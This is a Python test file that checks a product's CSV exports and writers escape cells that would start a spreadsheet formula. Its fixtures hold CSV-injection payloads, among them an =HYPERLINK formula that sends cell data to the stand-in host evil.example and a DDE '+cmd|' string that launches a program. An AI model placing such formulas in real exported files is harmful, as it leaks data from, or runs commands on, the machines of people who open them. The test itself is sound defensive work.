"""Every CSV the product writes is safe to open in a spreadsheet: no text cell starts a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from core.csv_safety import FORMULA_STARTS, SafeDictWriter, csv_cell
from diagnostics.api.reports import REPORT_VIEWS
from diagnostics.imports import failures_import
from tests.factories import DeviceFactory, ProductModelFactory

ROOT = Path(__file__).resolve().parents[2]
PRODUCT = ("core", "rma", "diagnostics", "config", "demo")

HOSTILE_SKU = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-3.5", "'-3.5"),  # text that looks like a number is still text
        (-3.5, -3.5),  # a number from a numeric field stays a number
        (-2, -2),
        (Decimal("-1.25"), Decimal("-1.25")),
        (True, "True"),
        (None, ""),
        ("PHN-1", "PHN-1"),
        (dt.date(2025, 1, 2), "2025-01-02"),
    ],
)
def test_a_cell_is_escaped_when_it_would_start_a_formula(value, written):
    assert csv_cell(value) == written


def looks_like_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: starts with a formula character and is not a plain number."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def hostile_fleet() -> None:
    """A fleet whose every name a person typed starts with a formula character."""
    model = ProductModelFactory(sku=HOSTILE_SKU, name="+cmd|' /C calc'!A0")
    for number in range(6):
        DeviceFactory(
            serial_number=f"H{number:02d}",
            product_model=model,
            lot="-2+3",
            firmware_version="@SUM(1+1)*cmd",
            manufactured_on=dt.date(2024, 12, 1),
            shipped_on=dt.date(2025, 1, 1),
        )
    rows = [
        (f"X{n}", f"H{n:02d}", f"2025-0{n + 2}-01", "-battery", "=FP-1" if n < 3 else "", outcome)
        for n, outcome in enumerate(["confirmed", "confirmed", "cause_unknown", "no_fault_found", "confirmed"])
    ]
    columns = ("external_id", "serial_number", "reported_on", "component", "pattern_code", "outcome")
    result = failures_import(rows=[dict(zip(columns, row, strict=True)) for row in rows], strict=True)
    assert not result.errors, result.errors


def csv_downloads():
    """(url, params) of every CSV the API serves: each report, each ``by``, each table, by its ``.csv``
    operation and by ``?format=csv`` on its JSON path."""
    for name, (view, _) in REPORT_VIEWS.items():
        for by in view.choices or ("",):
            for table in ("rows", "points") if name == "life" else ("rows",):
                params = {"date_to": "2025-06-30", "table": table, **({"by": by} if by else {})}
                yield f"/api/v1/reports/{name}.csv", params
                yield f"/api/v1/reports/{name}/", {**params, "format": "csv"}


@pytest.mark.django_db
def test_no_report_csv_has_a_cell_that_starts_a_formula(api, engineer):
    hostile_fleet()
    client = api(engineer)
    escaped = 0
    for url, params in csv_downloads():
        answer = client.get(url, params)
        assert answer.status_code == 200, (url, params, answer.content[:300])
        assert answer["Content-Type"].startswith("text/csv")
        for row in csv.reader(io.StringIO(answer.content.decode())):
            for cell in row:
                assert not looks_like_formula(cell), (url, params, cell)
                escaped += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
    assert escaped >= 10  # the hostile names did reach the files, escaped


def test_the_simulators_import_files_go_through_the_safe_writer(tmp_path):
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["serial_number", "notes", "count"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"serial_number": "SN-1", "notes": "=cmd", "count": -3, "ignored": "=x"})
    assert out.getvalue() == "serial_number,notes,count\nSN-1,'=cmd,-3\n"


def test_every_csv_writer_in_the_product_is_the_safe_one():
    """A new ``csv.writer``/``DictWriter`` anywhere but ``core/csv_safety.py`` fails here: use ``SafeWriter``."""
    found = []
    for package in PRODUCT:
        for path in (ROOT / package).rglob("*.py"):
            if path.relative_to(ROOT).as_posix() == "core/csv_safety.py" or "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"\bcsv\.(writer|DictWriter)\b|\b(writer|DictWriter)\(", text) and "csv_safety" not in text:
                found.append(path.relative_to(ROOT).as_posix())
    assert found == []
